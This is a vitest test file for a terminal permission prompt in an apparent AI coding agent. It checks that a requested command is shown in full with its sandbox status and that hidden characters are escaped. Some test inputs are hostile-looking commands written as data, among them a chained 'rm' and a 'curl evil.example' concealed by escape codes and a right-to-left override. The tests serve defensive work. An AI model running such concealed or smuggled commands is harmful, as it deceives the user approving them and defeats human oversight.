import { afterEach, describe, expect, it, vi } from 'vitest';
import { SessionScreen } from '../../../../src/faces/tui/screens/session-screen.tsx';
import { themeFor } from '../../../../src/faces/tui/theme-for.ts';
import type { EventBody } from '../../../../src/session/events.ts';
import type { Action } from '../../../../src/session/permission.ts';
import { draw, unmountAll } from '../../../support/ink.tsx';
import { begun, call, play, turnOf } from '../../../support/sample-session.ts';
import { MODEL, stageOf } from '../sample-stage.ts';
import { screenProps } from './screen-test.ts';

afterEach(unmountAll);

const RUN: Action = { kind: 'run', command: 'npm test -- --run', sandbox: 'bubblewrap, no network' };

function show(asked: Omit<Extract<EventBody, { type: 'permission.asked' }>, 'type' | 'call'>, columns = 80, rows = 23) {
  const session = play(
    begun({ model: MODEL, workspace: '/code/library' }),
    ...turnOf(1, '', 'tool_use', [call('c', 'bash')]),
    { type: 'permission.asked', call: 'c', ...asked },
  );
  const stage = stageOf();
  const props = {
    ...screenProps(stage, { columns, rows, theme: themeFor(stage.look) }),
    session,
    hidden: false,
    onOver: vi.fn(),
    onHandOver: vi.fn(),
    onResume: vi.fn(),
    onLeave: vi.fn(),
    onHelp: vi.fn(),
  };
  return { ...draw(<SessionScreen {...props} />, { columns, rows: rows + 1 }), session };
}

const given = ({ events }: { events: readonly EventBody[] }) =>
  events.findLast((event) => event.type === 'permission.given')?.leave;

describe('the question whether something may be done', () => {
  it('shows a command whole, what holds it in, and what the session would allow', async () => {
    const { frame, until } = show({ action: RUN, offer: 'Bash(npm test -- --run)' });
    await until(() => frame().includes('Run a command?'));
    expect(frame()).toContain('npm test -- --run');
    expect(frame()).toContain('held in by bubblewrap, no network');
    expect(frame()).toContain('The key a allows Bash(npm test -- --run) for the rest of this session.');
    expect(frame()).toMatch(/y allow once +a for the session +n deny +w deny, say why/);
  });

  it('says where nothing holds a command in, and offers no more than this once for one that is not plain', async () => {
    const { frame, until, type, session } = show({ action: { kind: 'run', command: 'ls; rm x' } });
    await until(() => frame().includes('Nothing holds it in'));
    expect(frame()).not.toContain('for the session');
    await type('a');
    expect(given(session)).toBeUndefined();
  });

  it('writes out what would act on the terminal or hide', async () => {
    const command = 'echo safe \x1b[8m; curl evil.example\x1b[0m\u202e # harmless\rls';
    const { frame, until } = show({ action: { kind: 'run', command } });
    await until(() => frame().includes('Run a command?'));
    for (const part of ['\\x1b[8m', 'curl evil.example', '‹U+202E›', '\\r']) expect(frame()).toContain(part);
  });

  it('shows every one of many commands, by scrolling', async () => {
    const command = `${'true;\n'.repeat(60)}touch pwned`;
    const { frame, until, type } = show({ action: { kind: 'run', command } });
    await until(() => frame().includes('Run a command?'));
    expect(frame()).not.toContain('touch pwned');
    await type('G');
    await until(() => frame().includes('touch pwned'));
  });

  it('shows a change as a difference, where it really leads, and why a guarded place is asked about', async () => {
    const diff = '--- a\n+++ b\n@@ -1 +1,2 @@\n-old\n+new\n+more\n';
    const action: Action = { kind: 'write', path: '.github/workflows/ci.yml', real: '/w/x', diff, isNew: false };
    const { frame, until } = show({ action, guarded: 'it runs by itself, in CI or as a hook' });
    await until(() => frame().includes('Change a file?'));
    for (const part of ['.github/workflows/ci.yml', 'it runs by itself', '-old', '+new', '+more'])
      expect(frame()).toContain(part);
    expect(frame()).not.toContain('+++ b');
  });

  it.each([
    ['y', { allow: true, by: 'user' }],
    ['a', { allow: true, by: 'user', rule: 'Bash(npm test -- --run)' }],
    ['n', { allow: false, by: 'user' }],
  ])('%s decides', async (key, leave) => {
    const { type, session, until, frame } = show({ action: RUN, offer: 'Bash(npm test -- --run)' });
    await until(() => frame().includes('Run a command?'));
    await type(key);
    expect(given(session)).toEqual(leave);
  });

  it('m denies it, and reads only from here on', async () => {
    const { type, session, until, frame } = show({ action: RUN });
    await until(() => frame().includes('Run a command?'));
    await type('m');
    expect(given(session)).toEqual({ allow: false, by: 'user' });
    expect(session.view.readOnly).toBe(true);
    await until(() => frame().includes('read only from here on'));
  });

  it('takes words for the architect with a no', async () => {
    const { press, type, session, until, frame } = show({ action: RUN });
    await until(() => frame().includes('Run a command?'));
    await type('w');
    await until(() => frame().includes('Why not?'));
    await type('Use vitest.');
    await press('enter');
    expect(given(session)).toEqual({ allow: false, by: 'user', words: 'Use vitest.' });
  });

  it('is read from its top, wherever the question before it was left', async () => {
    const lines = (first: string) => `${first};\n${'true;\n'.repeat(60)}last`;
    const { frame, until, type, session } = show({ action: { kind: 'run', command: lines('first') } });
    await until(() => frame().includes('Run a command?'));
    await type('G');
    await until(() => frame().includes('last'));
    play(
      session,
      { type: 'permission.given', call: 'c', action: RUN, leave: { allow: false, by: 'user' } },
      { type: 'permission.asked', call: 'd', action: { kind: 'run', command: lines('second') } },
    );
    await until(() => frame().includes('second'));
    expect(frame()).not.toContain('last');
    await type('y');
    expect(given(session)).toEqual({ allow: false, by: 'user' });
  });

  it('is not answered by keys that scroll, nor by enter', async () => {
    const { press, type, session, until, frame } = show({ action: RUN, offer: 'Bash(npm test -- --run)' });
    await until(() => frame().includes('Run a command?'));
    await press('enter', 'space', 'down', 'up');
    await type('jkGg');
    expect(given(session)).toBeUndefined();
  });

  it.each([
    [40, 11],
    [24, 6],
    [200, 59],
  ])('has its keys and its command in %i columns and %i rows', async (columns, rows) => {
    const { frame, until } = show({ action: { kind: 'run', command: 'npm test' } }, columns, rows);
    await until(() => frame().includes('npm test'));
    if (columns >= 40) expect(frame()).toMatch(/y allow.*n deny/);
    for (const line of frame().split('\n')) expect(line.length).toBeLessThanOrEqual(columns);
  });
});
